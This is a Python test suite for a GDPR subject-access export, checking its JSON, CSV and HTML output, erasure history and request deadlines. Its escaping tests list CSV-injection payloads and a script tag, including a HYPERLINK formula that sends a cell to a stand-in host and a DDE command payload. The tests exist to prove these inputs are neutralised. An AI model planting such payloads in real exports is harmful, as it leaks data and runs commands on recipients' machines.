"""The subject access export: Art 15 contents, as of any date, in JSON, CSV and HTML."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import jsonschema
import pytest

from lifecycle.services.dsar_render import to_csv, to_html
from lifecycle.services.ledger import Ledger
from tests.facts_builder import collected, fact, lines, t

ROOT = Path(__file__).resolve().parents[1]
SCHEMA = json.loads((ROOT / "docs" / "dsar-export.schema.json").read_text())
NOW = datetime(2026, 1, 1, tzinfo=UTC)
EMAIL = "robin.reader@example.org"


@pytest.fixture
def subscriber(ledger: Ledger) -> Ledger:
    """An HQIP subscriber who unsubscribed on 2024-03-10; erased at the 2025-07-01 review."""
    ledger.adopt_policy(ROOT / "config" / "hqip.toml", t("2023-01-01T00:00:00+00:00"))
    report = ledger.ingest(lines([
        collected("subscriber:7", "2023-05-02T09:00:00+01:00", "newsletter",
                  {"email": EMAIL, "first_name": "Robin"}),
        fact("consent-given", "subscriber:7", "2023-05-02T09:00:00+01:00",
             purpose="direct-marketing", method="web-form"),
        fact("shared", "subscriber:7", "2023-06-01T09:00:00+01:00",
             recipient="Clarity Marketing", role="processor", purpose="direct-marketing",
             basis="consent", records=["newsletter"], country="GB"),
        fact("consent-given", "subscriber:7", "2023-07-01T09:00:00+01:00",
             purpose="website-analytics", method="cookie-banner"),
        collected("subscriber:7", "2023-07-01T09:00:00+01:00", "site-visits",
                  {"ip": "192.0.2.7"}, purpose="website-analytics", category="technical"),
        fact("shared", "subscriber:7", "2023-07-01T09:00:00+01:00",
             recipient="Google Analytics", role="processor", purpose="website-analytics",
             basis="consent", categories=["technical"], country="US",
             safeguard="UK International Data Transfer Addendum"),
        fact("unsubscribed", "subscriber:7", "2024-03-10T10:00:00+00:00"),
    ]), NOW)
    assert report.rejected == []
    ledger.sweep(t("2025-07-01T00:00:00+01:00"), NOW)
    return ledger


def records(document: dict[str, object]) -> dict[str, dict[str, object]]:
    return {r["record"]: r for r in document["records"]}  # type: ignore[index, union-attr]


def test_the_export_holds_everything_article_15_asks_for(subscriber: Ledger) -> None:
    """The JSON export validates against docs/dsar-export.schema.json and names purposes,
    categories, recipients with country and safeguard, retention, rights, the complaint
    route, the source and automated decision-making."""
    document = subscriber.dsar_export("subscriber:7", NOW)
    jsonschema.validate(document, SCHEMA)
    analytics = records(document)["site-visits"]
    assert (analytics["purpose"], analytics["category"], analytics["source"]) == (
        "website-analytics", "technical", "data-subject")
    assert analytics["retention"]["rule"] == "analytics-26m"  # type: ignore[index]
    google = [r for r in document["recipients"] if r["recipient"] == "Google Analytics"][0]
    # The safeguard is the one the policy declares for the recipient, never the fact's text.
    assert (google["country"], google["safeguard"]) == (
        "US", "UK International Data Transfer Addendum to the EU standard contractual clauses")
    assert "access" in document["rights"] and "erasure" in document["rights"]
    assert "Information Commissioner" in document["complaint"]
    assert "not subject to automated decision making" in document["automated_decision_making"]


def test_as_of_before_the_erasure_shows_the_record_with_its_metadata(
        subscriber: Ledger) -> None:
    """Before the erasure the record is listed, not yet erased; its values read as erased
    because the key is gone now (crypto-shredding cannot be undone for the past)."""
    before = records(subscriber.dsar_export("subscriber:7", t("2025-01-01T00:00:00+00:00")))
    newsletter = before["newsletter"]
    assert newsletter["erased_at"] is None and newsletter["erased_by"] is None
    assert (newsletter["purpose"], newsletter["basis"]) == ("direct-marketing", "consent")
    assert newsletter["data"] == "erased"
    assert before["site-visits"]["data"] == {"ip": "192.0.2.7"}


def test_as_of_after_the_erasure_names_the_rule_that_erased_it(subscriber: Ledger) -> None:
    """After the erasure the record shows as erased, citing the rule and policy version."""
    after = records(subscriber.dsar_export("subscriber:7", t("2025-08-01T00:00:00+00:00")))
    newsletter = after["newsletter"]
    assert newsletter["data"] == "erased"
    assert newsletter["erased_at"] is not None
    assert "marketing-13m-after-unsubscribe" in str(newsletter["erased_by"])
    assert "hqip@2023-11" in str(newsletter["erased_by"])


def test_as_of_before_collection_shows_nothing_of_later_facts(subscriber: Ledger) -> None:
    """A date before a record was collected shows neither the record nor later shares."""
    early = subscriber.dsar_export("subscriber:7", t("2023-06-15T00:00:00+00:00"))
    assert list(records(early)) == ["newsletter"]
    assert [r["recipient"] for r in early["recipients"]] == ["Clarity Marketing"]
    assert early["consents"][0]["in_force"] is True
    assert early["suppressed"] is False


def test_csv_and_html_carry_the_same_records(subscriber: Ledger) -> None:
    """The CSV has a row per record; the HTML pack names each record and the authority,
    and escapes values."""
    document = subscriber.dsar_export("subscriber:7", NOW)
    rows = list(csv.DictReader(io.StringIO(to_csv(document))))
    assert [r["record"] for r in rows] == ["newsletter", "site-visits"]
    assert json.loads(rows[1]["data"]) == {"ip": "192.0.2.7"}
    page = to_html(document)
    assert "newsletter" in page and "site-visits" in page and "192.0.2.7" in page
    assert "Information Commissioner" in page
    document["records"][1]["data"] = {"note": "<script>x</script>"}
    escaped = to_html(document)
    assert "<script>x" not in escaped and "&lt;script&gt;x" in escaped


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://x.example/?"&A1,"open")',
                                     "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                                     "\t=1+1"])
def test_no_csv_cell_starts_a_spreadsheet_formula(subscriber: Ledger, hostile: str) -> None:
    """A record name or a source's name from a fact that a spreadsheet would run as a
    formula (=, +, -, @, or a tab or return before one) is written as text (a leading
    apostrophe), so opening the DSAR pack runs nothing; the JSON export keeps the value."""
    document = subscriber.dsar_export("subscriber:7", NOW)
    document["records"][0]["record"] = hostile
    document["records"][0]["source_name"] = hostile
    rows = list(csv.DictReader(io.StringIO(to_csv(document))))
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert rows[0]["record"] == "'" + hostile
    assert rows[0]["source_name"] == "'" + hostile


def test_an_unknown_subject_is_refused(ledger: Ledger) -> None:
    """Exporting a subject with no facts raises SubjectNotFound."""
    from lifecycle.domain.errors import SubjectNotFound

    with pytest.raises(SubjectNotFound):
        ledger.dsar_export("nobody:1", NOW)


def test_request_deadlines_follow_the_statutory_clock(ledger: Ledger) -> None:
    """An access request verified on 2025-01-31 is due 2025-02-28; one verified on Good
    Friday 2025-04-18 is due Monday 2025-05-19; an extension decided on day 40 is refused."""
    report = ledger.ingest(lines([
        collected("member:9", "2024-01-01T00:00:00Z", "profile", {"name": "Kim"}),
        fact("access-requested", "member:9", "2025-01-31T10:00:00Z", request="SAR-1",
             identity_check=True),
        fact("identity-verified", "member:9", "2025-01-31T15:00:00Z", request="SAR-1"),
        fact("access-requested", "member:9", "2025-04-16T10:00:00+01:00", request="SAR-2",
             identity_check=True),
        fact("identity-verified", "member:9", "2025-04-18T10:00:00+01:00", request="SAR-2"),
        fact("request-extended", "member:9", "2025-03-11T10:00:00Z", request="SAR-1"),
    ]), NOW)
    assert [r.line for r in report.rejected] == [6]
    assert "extension" in report.rejected[0].reason
    requests = {r["request"]: r for r in ledger.dsar_export("member:9", NOW)["requests"]}
    assert requests["SAR-1"]["deadline"] == "2025-02-28"
    assert requests["SAR-2"]["deadline"] == "2025-05-19"
